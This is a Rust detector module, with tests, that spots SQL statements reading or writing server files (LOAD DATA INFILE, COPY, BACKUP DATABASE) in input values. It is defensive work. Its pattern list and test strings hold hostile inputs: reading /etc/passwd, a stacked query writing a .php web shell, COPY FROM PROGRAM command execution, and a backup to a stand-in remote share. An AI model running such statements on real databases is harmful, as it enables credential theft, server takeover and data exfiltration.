//! Statements that read or write the server's files, however whole they are: `load data infile`,
//! `copy`, `backup database`. Sentences copy files, too, so that a statement of `copy` must start like
//! one and end like one.
//!
//! Source: the manuals of MySQL (LOAD DATA), PostgreSQL (COPY) and SQL Server (BACKUP).

/// Longest value that is looked at for them. Units: bytes.
const LONGEST: usize = 512;
/// Files that nobody means to load or to write by hand.
const TELLING: [&[u8]; 9] = [
    b"/etc/passwd",
    b"/etc/shadow",
    b"/etc/cron",
    b"/proc/",
    b"/.ssh/",
    b"/www/",
    b".php",
    b".jsp",
    b".asp",
];

/// Tells whether a value is or holds such a statement. Cost: linear, no allocation.
pub(super) fn touches_files(text: &[u8]) -> bool {
    let quoted = memchr::memchr2(b'\'', b'"', text).is_some();
    if text.len() > LONGEST || !quoted {
        return false;
    }
    let end = |b: &u8| *b <= b' ' || matches!(b, b'=' | b';' | b'(');
    let mut at = 0;
    for word in text.split(end) {
        let rest = &text[at + word.len()..];
        let found = if word.eq_ignore_ascii_case(b"infile") {
            matches!(rest.trim_ascii_start(), [b'\'' | b'"', ..])
        } else if word.eq_ignore_ascii_case(b"copy") {
            starts(&text[..at]) && copies(rest)
        } else if word.eq_ignore_ascii_case(b"backup") {
            backs_up(rest)
        } else {
            false
        };
        if found {
            return true;
        }
        at += word.len() + 1;
    }
    false
}

/// Tells whether a statement may start behind this.
fn starts(before: &[u8]) -> bool {
    matches!(
        before.trim_ascii_end().last(),
        None | Some(b';' | b')' | b'/')
    )
}

/// `t from '/x';`, `(select 1) to '/x.php'`, `t from program 'x'`.
fn copies(text: &[u8]) -> bool {
    let Some(rest) = source(text.trim_ascii_start()) else {
        return false;
    };
    let (direction, rest) = word(rest);
    if !is_direction(direction) {
        return false;
    }
    let (next, behind) = word(rest);
    if next.eq_ignore_ascii_case(b"program") {
        return behind.trim_ascii_start().starts_with(b"'");
    }
    let file = rest.trim_ascii_start();
    let Some(file) = file.strip_prefix(b"'") else {
        return false;
    };
    let Some(close) = memchr::memchr(b'\'', file) else {
        return false;
    };
    let (file, rest) = (&file[..close], file[close + 1..].trim_ascii());
    let path = matches!(file, [b'/' | b'\\', ..] | [_, b':', b'\\', ..]);
    let option = word(rest).0;
    let goes_on = [
        &b"with"[..],
        b"csv",
        b"delimiter",
        b"binary",
        b"header",
        b"where",
    ];
    let ends = rest.starts_with(b";") || rest.starts_with(b"--");
    path && (ends
        || goes_on.iter().any(|o| option.eq_ignore_ascii_case(o))
        || rest.is_empty() && is_telling(file))
}

/// What is copied: a table, with or without columns, or a query in brackets. Gives what follows.
fn source(text: &[u8]) -> Option<&[u8]> {
    let name = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'"');
    let length = text.iter().take_while(|b| name(b)).count();
    let rest = text[length..].trim_ascii_start();
    if rest.starts_with(b"(") {
        let goes_on = |end: &usize| is_direction(word(&rest[end + 1..]).0);
        let close = memchr::memchr_iter(b')', rest).find(goes_on)?;
        return Some(&rest[close + 1..]);
    }
    (length > 0).then_some(rest)
}

fn is_direction(word: &[u8]) -> bool {
    word.eq_ignore_ascii_case(b"from") || word.eq_ignore_ascii_case(b"to")
}

/// `database d to disk='x'`.
fn backs_up(text: &[u8]) -> bool {
    let (what, rest) = word(text);
    let (_, rest) = word(rest);
    let (to, rest) = word(rest);
    let (disk, rest) = word(rest);
    what.eq_ignore_ascii_case(b"database")
        && to.eq_ignore_ascii_case(b"to")
        && disk
            .get(..4)
            .is_some_and(|d| d.eq_ignore_ascii_case(b"disk"))
        && rest.trim_ascii_start().starts_with(b"=")
}

fn is_telling(file: &[u8]) -> bool {
    let file = file.to_ascii_lowercase();
    TELLING
        .iter()
        .any(|known| memchr::memmem::find(&file, known).is_some())
}

/// The first word and what follows it.
fn word(text: &[u8]) -> (&[u8], &[u8]) {
    let text = text.trim_ascii_start();
    let name = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.');
    text.split_at(text.iter().take_while(|b| name(b)).count())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn statements_are_told_from_sentences() {
        for text in [
            "load data local infile '/tmp/x' into table y",
            "Copy t FROM '/tmp/x';",
            "copy users from '/etc/passwd'",
            "1; copy (select 1) to '/var/www/x.php'",
            "COPY t(a, b) FROM '/x' WITH (FORMAT csv)",
            "copy t from program 'id'",
            "backup database d to disk = '\\\\a.example\\x'",
        ] {
            assert!(touches_files(text.as_bytes()), "{text}");
        }
        for text in [
            "COPY app FROM '/srv/app'",
            "Copy files from '/mnt/data' to the backup drive",
            "please copy users from '/etc/passwd'",
            "copy 'a' from '/b' to 'c'",
            "copy this from 'home' to 'work'",
            "backup the database to 'disk'",
            "",
        ] {
            assert!(!touches_files(text.as_bytes()), "{text}");
        }
    }
}
